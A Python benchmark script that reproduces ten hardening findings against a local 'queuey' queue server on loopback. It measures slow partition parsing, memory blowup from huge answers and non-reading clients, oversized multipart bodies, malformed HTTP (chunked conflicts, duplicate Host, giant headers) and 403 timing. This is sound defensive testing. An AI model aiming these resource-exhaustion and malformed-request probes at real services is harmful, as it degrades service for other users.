"""Reproduce the measurements of the hardening findings (issue 10) against a real server.

Run from the repository root: ``.venv/bin/python bench/attack.py [--only 1,2,9]``. It starts
``python -m queuey serve`` from this checkout on 127.0.0.1 (a free port, a fresh temporary data
directory, two applications), runs each finding's reproduction with bounded loops, prints one
line per figure and stops the server by its PID. Nothing leaves loopback.

The figures are wall-clock times on whatever else the machine is doing: compare runs made on
the same machine at the same time of day, and repeat a run before trusting a small difference.
"""

from __future__ import annotations

import argparse
import contextlib
import http.client
import json
import os
import re
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import urlencode

T = TypeVar("T")

HOST = "127.0.0.1"
KEY = "a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5"
OTHER_KEY = "b0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5"
AUTH = {"Authorization": f"Application {KEY}"}
OTHER_AUTH = {"Authorization": f"Application {OTHER_KEY}"}
OTHER = {"Authorization": f"Application {OTHER_KEY}"}
AUTH_LINE = f"Authorization: Application {KEY}\r\n".encode()
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def report(finding: str, what: str, value: object) -> None:
    print(f"[{finding}] {what}: {value}", flush=True)


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind((HOST, 0))
        port: int = sock.getsockname()[1]
        return port


class Server:
    """``python -m queuey serve`` in a directory of its own, stopped by its PID."""

    def __init__(self, directory: Path, config: str | None, env: dict[str, str] | None = None):
        self.directory = directory
        self.port = free_port()
        self.log = directory / f"server-{self.port}.log"
        args = [sys.executable, "-m", "queuey", "serve", "--port", str(self.port)]
        environment = {k: v for k, v in os.environ.items() if not k.startswith("QUEUEY_")}
        if config is not None:
            path = directory / "queuey.ini"
            path.write_text(config)
            args += ["--config", str(path)]
        with self.log.open("w") as output:
            self.process = subprocess.Popen(
                args,
                cwd=directory,
                stdout=output,
                stderr=subprocess.STDOUT,
                env={**environment, **(env or {})},
            )
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise SystemExit(f"server exited {self.process.returncode}:\n{self.output()}")
            with contextlib.suppress(OSError):
                if call(self, "GET", "/__lbheartbeat__", timeout=1)[0] == 200:
                    return
            time.sleep(0.1)
        self.stop()
        raise SystemExit("server did not answer in 30 s")

    def output(self) -> str:
        return self.log.read_text(errors="replace")

    def tracebacks(self) -> int:
        return self.output().count("Traceback")

    def rss_mib(self) -> float:
        for line in Path(f"/proc/{self.process.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
        return 0.0

    def open_fds(self) -> int:
        return len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def cpu_seconds(self) -> float:
        fields = Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGINT)
            try:
                self.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=5)


def config_text(directory: Path, extra: str = "", key: str = KEY) -> str:
    return (
        f"[application_keys]\nqueuey = {key}\nother = {OTHER_KEY}\n\n"
        f"[storage]\nbackend = sqlite\npath = {directory / 'data'}\n\n"
        f"[queuey]\nrequest_timeout = 5\nsweep_interval = 1\n{extra}"
    )


@contextlib.contextmanager
def serving(extra: str = "", key: str = KEY) -> Iterator[Server]:
    with tempfile.TemporaryDirectory(prefix="queuey-attack-") as name:
        directory = Path(name)
        server = Server(directory, config_text(directory, extra, key))
        try:
            yield server
        finally:
            server.stop()


def call(
    server: Server,
    method: str,
    path: str,
    body: bytes | str | dict[str, Any] | None = None,
    headers: dict[str, str] | None = None,
    timeout: float = 120,
) -> tuple[int, dict[str, str], bytes, float]:
    """One request on a new connection: status, headers, body, seconds to the whole answer."""
    headers = dict(headers or {})
    if isinstance(body, dict):
        body = urlencode(body)
        headers = {**FORM, **headers}
    connection = http.client.HTTPConnection(HOST, server.port, timeout=timeout)
    try:
        started = time.perf_counter()
        connection.request(method, path, body=body, headers=headers)
        response = connection.getresponse()
        data = response.read()
        elapsed = time.perf_counter() - started
        return response.status, dict(response.getheaders()), data, elapsed
    finally:
        connection.close()


def ok(result: tuple[int, dict[str, str], bytes, float], *expected: int) -> Any:
    status, _, data, _ = result
    if status not in expected:
        raise SystemExit(f"unexpected {status}: {data[:300]!r}")
    return json.loads(data) if data else None


def create(server: Server, name: str, **settings: object) -> None:
    fields = {"queue_name": name, **{k: str(v) for k, v in settings.items()}}
    ok(call(server, "POST", "/v1/queuey", fields, AUTH), 201)


def post(server: Server, queue: str, items: list[dict[str, Any]]) -> None:
    body = json.dumps({"messages": items})
    headers = {**AUTH, "Content-Type": "application/json"}
    ok(call(server, "POST", f"/v1/queuey/{queue}", body, headers), 201)


def while_measuring(server: Server, attack: Callable[[], T]) -> tuple[T, float]:
    """Run ``attack``; meanwhile (after 0.2 s) time one /__lbheartbeat__ on another connection."""
    latency: list[float] = []

    def heartbeat() -> None:
        time.sleep(0.2)
        started = time.perf_counter()
        try:
            latency.append(call(server, "GET", "/__lbheartbeat__", timeout=40)[3])
        except OSError:  # no answer before the server was stopped
            latency.append(time.perf_counter() - started)

    watcher = threading.Thread(target=heartbeat)
    watcher.start()
    result = attack()
    watcher.join()
    return result, latency[0]


def mean_latency_ms(server: Server, path: str, headers: dict[str, str], seconds: float) -> float:
    connection = http.client.HTTPConnection(HOST, server.port, timeout=60)
    samples: list[float] = []
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        started = time.perf_counter()
        connection.request("GET", path, headers=headers)
        connection.getresponse().read()
        samples.append(time.perf_counter() - started)
    connection.close()
    return statistics.mean(samples) * 1000


# -- finding 1: quadratic list parsing ------------------------------------------------------------


def finding_1() -> None:
    with serving() as server:
        create(server, "f1", partitions=200)
        post(server, "f1", [{"body": "x", "partition": 1}])
        numbers = ",".join(str(n) for n in range(1, 60_001))
        path = "/v1/queuey/f1/claims"
        result, beat = while_measuring(
            server, lambda: call(server, "POST", path, {"partitions": numbers}, AUTH)
        )
        status, _, _, took = result
        report("1", "claim with 60,000 partitions", f"{status} after {took:.2f} s")
        report("1", "concurrent /__lbheartbeat__", f"{beat:.2f} s")
        principles = ",".join(f"app:a{n}" for n in range(16_000))
        status, _, _, took = call(
            server, "POST", "/v1/queuey", {"queue_name": "f1p", "principles": principles}, AUTH
        )
        report("1", "create with 16,000 principles", f"{status} after {took:.2f} s")
        create(server, "pub", type="public")
        ok(call(server, "POST", "/v1/other", {"queue_name": "victim"}, OTHER), 201)
        url = "/v1/queuey/pub?partitions=" + ",".join(str(n) for n in range(1, 12_668))
        times = [call(server, "GET", url)[3] for _ in range(3)]
        report(
            "1",
            f"anonymous GET with 12,667 partitions ({len(url)} B URL)",
            f"median {statistics.median(times):.2f} s",
        )
        victim = "/v1/other/victim"
        alone = mean_latency_ms(server, victim, OTHER, 3)
        stop = threading.Event()

        def attacker() -> None:
            while not stop.is_set():
                call(server, "GET", url)

        attackers = [threading.Thread(target=attacker) for _ in range(4)]
        for thread in attackers:
            thread.start()
        time.sleep(0.5)
        loaded = mean_latency_ms(server, victim, OTHER, 5)
        stop.set()
        for thread in attackers:
            thread.join()
        report(
            "1",
            "other tenant's mean GET latency alone / with 4 such connections",
            f"{alone:.1f} ms / {loaded:.1f} ms",
        )


# -- finding 2: huge answers -----------------------------------------------------------------------


def non_reading_clients(server: Server, path: str, count: int, hold: float) -> dict[str, float]:
    """``count`` connections send ``path`` and never read; the server's RSS before, at its
    peak while they hold and 2 s after they close, and how many of them it still held at the
    end (its open file descriptors over those it had before)."""
    before, fds = server.rss_mib(), server.open_fds()
    sockets = []
    for _ in range(count):
        sock = socket.create_connection((HOST, server.port))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
        sockets.append(sock)
    peak = before
    deadline = time.monotonic() + hold
    while time.monotonic() < deadline:
        peak = max(peak, server.rss_mib())
        time.sleep(0.2)
    held, at_end = server.open_fds() - fds, server.rss_mib()
    for sock in sockets:
        sock.close()
    time.sleep(2)
    return {"before": before, "peak": peak, "at_end": at_end, "after": server.rss_mib(),
            "held": held}  # fmt: skip


def finding_2(partitions: int, per_partition: int, hold: float) -> None:
    with serving() as server:
        create(server, "big", partitions=partitions, type="public")
        body = "x" * 1000
        started = time.perf_counter()
        for partition in range(1, partitions + 1):
            post(server, "big", [{"body": body, "partition": partition}] * per_partition)
        report(
            "2",
            f"loaded {partitions} partitions x {per_partition} messages of 1 KB",
            f"in {time.perf_counter() - started:.1f} s",
        )
        numbers = ",".join(str(n) for n in range(1, partitions + 1))
        path = f"/v1/queuey/big?partitions={numbers}&limit={per_partition}"
        result, beat = while_measuring(server, lambda: call(server, "GET", path))
        status, _, data, took = result
        report(
            "2",
            "anonymous GET of everything",
            f"{status}, {len(data) / 1e6:.0f} MB in {took:.2f} s",
        )
        report("2", "concurrent /__lbheartbeat__ (loop blocked)", f"{beat:.2f} s")
        heads = [call(server, "HEAD", path)[3] for _ in range(3)]
        report("2", "HEAD of it", ", ".join(f"{t:.2f} s" for t in heads))
        held = non_reading_clients(server, path, 6, hold)
        report(
            "2",
            f"RSS with 6 non-reading clients ({hold:g} s)",
            f"{held['before']:.0f} MiB before, peak {held['peak']:.0f} MiB, "
            f"{held['at_end']:.0f} MiB at the end, {held['after']:.0f} MiB 2 s after they "
            f"closed; connections the server still held at the end: {held['held']:.0f} of 6",
        )
        counts = [
            call(server, "GET", "/v1/queuey?include_count=true", None, AUTH)[3] for _ in range(3)
        ]
        report(
            "2",
            f"include_count over {partitions * per_partition} messages",
            ", ".join(f"{t * 1000:.0f} ms" for t in counts),
        )
        stats = [call(server, "GET", "/v1/queuey/big/stats", None, AUTH)[3] for _ in range(3)]
        report("2", "stats", ", ".join(f"{t * 1000:.0f} ms" for t in stats))


# -- finding 3: a long-poll claim whose client left ------------------------------------------------


def abandoned_claim(server: Server, queue: str) -> None:
    """POST a claim with wait=20 and give up after 1 s, like ``curl -m 1``."""
    body = b"wait=20"
    sock = socket.create_connection((HOST, server.port))
    sock.sendall(
        f"POST /v1/queuey/{queue}/claims HTTP/1.1\r\nHost: {HOST}\r\n"
        f"Authorization: Application {KEY}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    time.sleep(1)
    sock.close()


def abandoned_claim_then_post(server: Server, queue: str) -> None:
    abandoned_claim(server, queue)
    headers = {**AUTH, "Content-Type": "text/plain"}
    ok(call(server, "POST", f"/v1/queuey/{queue}", "important", headers), 201)


def finding_3() -> None:
    with serving() as server:
        create(server, "gq", delivery="at_most_once")
        abandoned_claim_then_post(server, "gq")
        time.sleep(0.5)
        claimed = ok(call(server, "POST", "/v1/queuey/gq/claims", {}, AUTH), 200)["messages"]
        stats = ok(call(server, "GET", "/v1/queuey/gq/stats", None, AUTH), 200)["stats"]
        read = ok(call(server, "GET", "/v1/queuey/gq", None, AUTH), 200)["messages"]
        report(
            "3",
            "at_most_once: live consumer gets / stats messages / read",
            f"{len(claimed)} / {stats['messages']} / {len(read)} (message posted after the "
            "abandoned wait=20 claim)",
        )
        create(server, "dl", delivery="at_least_once", max_deliveries=1, claim_ttl=2)
        abandoned_claim_then_post(server, "dl")
        time.sleep(4)
        claimed = ok(call(server, "POST", "/v1/queuey/dl/claims", {}, AUTH), 200)["messages"]
        stats = ok(call(server, "GET", "/v1/queuey/dl/stats", None, AUTH), 200)["stats"]
        report(
            "3",
            "max_deliveries=1 claim_ttl=2: live consumer gets / dead_lettered",
            f"{len(claimed)} / {stats['dead_lettered']}",
        )


# -- finding 4: forged claim ids -------------------------------------------------------------------


def finding_4() -> None:
    with serving() as server:
        create(server, "fq")
        post(server, "fq", [{"body": "a"}])
        claim = ok(call(server, "POST", "/v1/queuey/fq/claims", {}, AUTH), 200)["messages"][0]
        valid = claim["claim_id"]
        forged = valid[:34] + "f" * 16
        status, headers, data, _ = call(
            server, "DELETE", f"/v1/queuey/fq/claims/{valid},{forged}", None, AUTH
        )
        retry = headers.get("Retry-After") or headers.get("retry-after")
        report("4", "ack of <valid>,<forged>", f"{status} Retry-After={retry} {data[:160]!r}")
        stats = ok(call(server, "GET", "/v1/queuey/fq/stats", None, AUTH), 200)["stats"]
        report("4", "messages left after it (1 = valid claim not acked)", stats["messages"])


# -- finding 5: multipart --------------------------------------------------------------------------


def multipart(parts: Sequence[tuple[str | None, bytes]]) -> tuple[bytes, dict[str, str]]:
    boundary = "queueyattackboundary"
    chunks = []
    for name, value in parts:
        disposition = "form-data" + (f'; name="{name}"' if name is not None else "")
        chunks.append(
            f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + value + b"\r\n"
        )
    body = b"".join(chunks) + f"--{boundary}--\r\n".encode()
    return body, {**AUTH, "Content-Type": f"multipart/form-data; boundary={boundary}"}


def finding_5() -> None:
    with serving() as server:
        create(server, "q")
        body, headers = multipart([(None, b"x")])
        for method, path in (("POST", "/v1/queuey"), ("PUT", "/v1/queuey/q")):
            status, _, data, _ = call(server, method, path, body, headers)
            report(
                "5", f"{method} {path} multipart part without a name", f"{status} {data[:100]!r}"
            )
        # 50 parts of 1 MB (each under the parser's per-part buffer), the last one names the queue
        parts = [("queue_name", b"x" * (1 << 20))] * 50 + [("queue_name", b"mp")]
        body, headers = multipart(parts)
        before = server.rss_mib()
        answer, took = upload(server, "/v1/queuey", body, headers)
        report(
            "5",
            f"{len(body) / 1e6:.0f} MB multipart create",
            f"{answer} in {took:.2f} s (RSS {before:.0f} -> {server.rss_mib():.0f} MiB)",
        )
        body = urlencode({"queue_name": "fe", "filler": "x" * (50 << 20)}).encode()
        answer, took = upload(server, "/v1/queuey", body, {**AUTH, **FORM})
        report("5", f"{len(body) / 1e6:.0f} MB form-encoded create", f"{answer} in {took:.2f} s")


def upload(server: Server, path: str, body: bytes, headers: dict[str, str]) -> tuple[str, float]:
    """POST a large body on a raw socket: the status line, even when the server answers (and
    closes) before the body is all sent."""
    head = f"POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n"
    head += "".join(f"{k}: {v}\r\n" for k, v in headers.items()) + "\r\n"
    started = time.perf_counter()
    sock = socket.create_connection((HOST, server.port))
    answer = b""
    try:
        with contextlib.suppress(OSError):
            sock.sendall(head.encode() + body)
        sock.settimeout(30)
        with contextlib.suppress(OSError):
            while b"\r\n" not in answer and (chunk := sock.recv(65536)):
                answer += chunk
    finally:
        sock.close()
    status = answer.split(b" ", 2)[1].decode() if answer else "no answer (connection reset)"
    return status, time.perf_counter() - started


# -- finding 6: file modes and the printed key -----------------------------------------------------


def finding_6() -> None:
    with tempfile.TemporaryDirectory(prefix="queuey-attack-") as name:
        directory = Path(name)
        printed = 0
        for _ in range(2):
            server = Server(directory, None)
            ok(call(server, "GET", "/__heartbeat__"), 200)
            server.stop()
            printed += bool(re.search(r"key [0-9a-zA-Z_-]{16,}", server.output()))
        data = directory / "queuey-data"
        modes = {p.name: oct(p.stat().st_mode & 0o777) for p in [data, *sorted(data.iterdir())]}
        report("6", "modes", modes)
        report("6", "starts (of 2, same data directory) that printed the key", printed)


# -- finding 7: settings that accept nonsense ------------------------------------------------------


def finding_7() -> None:
    with tempfile.TemporaryDirectory(prefix="queuey-attack-") as name:
        directory = Path(name)
        text = config_text(directory).replace("sweep_interval = 1\n", "sweep_interval = 1e-300\n")
        try:
            server = Server(directory, text)
        except SystemExit as refused:
            report("7", "sweep_interval = 1e-300", start_refused(refused))
        else:
            try:
                time.sleep(1)
                cpu = server.cpu_seconds()
                time.sleep(3)
                report(
                    "7",
                    "sweep_interval = 1e-300: idle CPU",
                    f"{(server.cpu_seconds() - cpu) / 3 * 100:.0f} %",
                )
            finally:
                server.stop()
    try:
        with serving("max_partitions = 100000000\n") as server:
            wide_queue(server)
    except SystemExit as refused:
        report("7", "max_partitions = 100000000", start_refused(refused))
    try:
        with serving(key="k") as server:
            warned = "key" in server.output().lower() and "short" in server.output().lower()
            status = call(
                server, "POST", "/v1/queuey", {"queue_name": "one"},
                {"Authorization": "Application k"},
            )[0]  # fmt: skip
            report("7", "one-character key", f"started, create -> {status}, warned: {warned}")
    except SystemExit as refused:
        report("7", "one-character key", start_refused(refused))


def start_refused(refused: SystemExit) -> str:
    """What a server that would not start said last (its configuration error)."""
    said = [line for line in str(refused.code).splitlines() if line.strip()]
    return f"start refused: {said[-1] if said else refused.code}"


def wide_queue(server: Server) -> None:
    status, _, _, _ = call(
        server, "POST", "/v1/queuey", {"queue_name": "wide", "partitions": "100000000"}, AUTH
    )
    report("7", "max_partitions = 100000000: create with 100,000,000 partitions", status)
    if status != 201:
        return

    def claim() -> str:
        try:
            claimed = call(server, "POST", "/v1/queuey/wide/claims", {}, AUTH, timeout=30)
            status, took = claimed[0], claimed[3]
        except TimeoutError:
            return "no answer within 30 s"
        return f"{status} after {took:.1f} s"

    answer, beat = while_measuring(server, claim)
    report("7", "claim on it", answer)
    report("7", "concurrent /__lbheartbeat__", f"{beat:.1f} s (40 s: no answer)")
    started = time.monotonic()
    server.stop()
    report("7", "SIGINT to exit after that", f"{time.monotonic() - started:.1f} s")


# -- finding 8: no per-application limits ----------------------------------------------------------


def finding_8(seconds: float, quota: int) -> None:
    """Without quotas, then with ``[quotas] max_stored_bytes = quota``; meanwhile another
    application posts one message now and then."""
    for stored_quota in (0, quota):
        extra = f"\n[quotas]\nmax_stored_bytes = {stored_quota}\n" if stored_quota else ""
        with serving(extra) as server:
            create(server, "flood")
            ok(call(server, "POST", "/v1/other", {"queue_name": "q"}, OTHER_AUTH), 201)
            bodies, statuses, others = flood(server, seconds)
            label = f"max_stored_bytes {stored_quota}" if stored_quota else "no quotas"
            report(
                "8",
                f"one application, 10 MB batches for {seconds:.0f} s, {label}",
                f"{bodies / 1e9:.2f} GB of bodies stored, statuses {statuses}; "
                f"the other application's posts {others}",
            )


def flood(server: Server, seconds: float) -> tuple[int, dict[int, int], list[int]]:
    """Post 1,000 bodies of 10,000 bytes a batch for ``seconds``: the body bytes stored, the
    count of each status, and the statuses of another application's posts in between."""
    body = json.dumps({"messages": [{"body": "y" * 10_000}] * 1000})
    headers = {**AUTH, "Content-Type": "application/json"}
    connection = http.client.HTTPConnection(HOST, server.port, timeout=60)
    stored, statuses, others = 0, dict[int, int](), list[int]()
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        connection.request("POST", "/v1/queuey/flood", body=body, headers=headers)
        response = connection.getresponse()
        response.read()
        statuses[response.status] = statuses.get(response.status, 0) + 1
        stored += 10_000_000 if response.status == 201 else 0
        if sum(statuses.values()) % 10 == 0:
            others.append(call(server, "POST", "/v1/other/q", "hello", OTHER_AUTH)[0])
    connection.close()
    return stored, dict(sorted(statuses.items())), sorted(set(others))


# -- finding 9: the HTTP edge ----------------------------------------------------------------------


def raw(server: Server, data: bytes, wait: float = 3.0, shut: bool = False) -> bytes:
    """Send ``data`` and read the answer until the server closes; with ``shut``, end the sending
    side and close the connection at once, without reading."""
    sock = socket.create_connection((HOST, server.port))
    try:
        sock.sendall(data)
        if shut:
            sock.shutdown(socket.SHUT_WR)
            time.sleep(0.05)
            return b""
        sock.settimeout(wait)
        answer = b""
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while chunk := sock.recv(65536):
                answer += chunk
        return answer
    finally:
        sock.close()


def head_of(answer: bytes) -> str:
    lines = answer.split(b"\r\n\r\n", 1)[0].split(b"\r\n")
    keep = [lines[0]] + [
        line for line in lines[1:] if line.lower().startswith((b"allow", b"content-type"))
    ]
    statuses = re.findall(rb"HTTP/1\.[01] (\d{3})", answer)
    return (
        f"{b' | '.join(keep).decode(errors='replace')} (statuses {[s.decode() for s in statuses]})"
    )


def finding_9() -> None:
    with serving() as server:
        create(server, "q", type="public")
        host = f"Host: {HOST}\r\n".encode()
        before = server.tracebacks()
        answer = raw(server, b"GET /x\r\n\r\n")
        time.sleep(0.3)
        report(
            "9",
            "HTTP/0.9 GET /x",
            f"{head_of(answer) if answer else 'no answer'}, "
            f"{server.tracebacks() - before} tracebacks logged",
        )
        before = server.tracebacks()
        pipelined = (
            b"POST /v1/queuey/q HTTP/1.1\r\n" + host + AUTH_LINE + b"Content-Length: 1\r\n\r\nx"
        )
        for _ in range(20):
            raw(server, pipelined * 5, shut=True)
        time.sleep(1)
        report(
            "9",
            "20 connections of 5 pipelined requests then close",
            f"{server.tracebacks() - before} tracebacks logged",
        )
        for method in (b"FOO", b"PURGE", b"get"):
            answer = raw(
                server, method + b" /v1/queuey/q HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n"
            )
            report("9", f"method {method.decode()}", head_of(answer))
        started = time.monotonic()
        answer = raw(
            server,
            b"POST /v1/queuey/q HTTP/1.1\r\n"
            + host
            + b"Authorization: Application wrong\r\nContent-Length: 1000\r\n\r\nabc",
            wait=8,
        )
        report(
            "9",
            "early 401 then a stalled body (request_timeout 5 s)",
            f"{head_of(answer)} after {time.monotonic() - started:.1f} s",
        )
        cases = {
            "Transfer-Encoding: identity, chunked": b"POST /v1/queuey/q HTTP/1.1\r\n"
            + host
            + b"Transfer-Encoding: identity, chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n",
            "chunked on HTTP/1.0": b"POST /v1/queuey/q HTTP/1.0\r\n"
            + host
            + b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n",
            "no Host on HTTP/1.1": b"GET /v1/queuey/q HTTP/1.1\r\n\r\n",
            "two Host headers": b"GET /v1/queuey/q HTTP/1.1\r\n" + host + host + b"\r\n",
            "10,000 headers": b"GET /v1/queuey/q HTTP/1.1\r\n"
            + host
            + b"".join(b"X-%d: 1\r\n" % n for n in range(10_000))
            + b"\r\n",
        }
        for what, data in cases.items():
            report("9", what, head_of(raw(server, data, wait=2)))
        big = b"GET /v1/queuey/q HTTP/1.1\r\n" + host + b"X-Big: " + b"a" * (50 << 20) + b"\r\n\r\n"
        before_rss = server.rss_mib()
        started = time.monotonic()
        sock = socket.create_connection((HOST, server.port))
        answer = b""
        try:
            with contextlib.suppress(OSError):
                sock.sendall(big)
            sock.settimeout(5)
            with contextlib.suppress(OSError):
                while chunk := sock.recv(65536):
                    answer += chunk
        finally:
            sock.close()
        report(
            "9",
            "a 50 MB header",
            f"{head_of(answer) if answer else 'connection closed, no answer'} after "
            f"{time.monotonic() - started:.1f} s, "
            f"RSS {before_rss:.0f} -> {server.rss_mib():.0f} MiB",
        )
        status, _, data, _ = call(server, "GET", "/v1/queuey/q?since=%D9%A1%D9%A7%D9%A9%D9%A6")
        report("9", "since=١٧٩٦", f"{status} {data[:100]!r}")
        status, _, data, _ = call(server, "GET", "/v1/queuey/q?limit=%D9%A1")
        report("9", "limit=١ (for comparison)", f"{status} {data[:100]!r}")


# -- finding 10: 403 timing ------------------------------------------------------------------------


def finding_10(samples: int) -> None:
    with serving() as server:
        create(server, "exists")
        connection = http.client.HTTPConnection(HOST, server.port, timeout=30)

        def median_us(path: str) -> float:
            times = []
            for _ in range(samples):
                started = time.perf_counter()
                connection.request("GET", path, headers=OTHER)
                response = connection.getresponse()
                response.read()
                times.append(time.perf_counter() - started)
                assert response.status == 403, response.status
            return statistics.median(times) * 1e6

        for run in (1, 2):
            existing = median_us("/v1/queuey/exists")
            missing = median_us("/v1/queuey/missing")
            report(
                "10",
                f"run {run}: median 403 on an existing / a missing queue ({samples} samples each)",
                f"{existing:.0f} us / {missing:.0f} us",
            )
        connection.close()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--only", default="1,2,3,4,5,6,7,8,9,10", help="findings to run")
    parser.add_argument("--partitions", type=int, default=200, help="finding 2: partitions")
    parser.add_argument("--messages", type=int, default=1000, help="finding 2: per partition")
    parser.add_argument("--hold", type=float, default=15, help="finding 2: seconds clients hold")
    parser.add_argument("--flood", type=float, default=5, help="finding 8: seconds of writes")
    parser.add_argument(
        "--quota", type=int, default=100_000_000, help="finding 8: max_stored_bytes, second run"
    )
    parser.add_argument("--samples", type=int, default=3000, help="finding 10: samples a name")
    args = parser.parse_args(argv)
    runs: dict[str, Callable[[], None]] = {
        "1": finding_1,
        "2": lambda: finding_2(args.partitions, args.messages, args.hold),
        "3": finding_3,
        "4": finding_4,
        "5": finding_5,
        "6": finding_6,
        "7": finding_7,
        "8": lambda: finding_8(args.flood, args.quota),
        "9": finding_9,
        "10": lambda: finding_10(args.samples),
    }
    print(f"load average {os.getloadavg()[0]:.2f} on {os.cpu_count()} CPUs", flush=True)
    for finding in args.only.split(","):
        runs[finding.strip()]()
    return 0


if __name__ == "__main__":
    sys.exit(main())
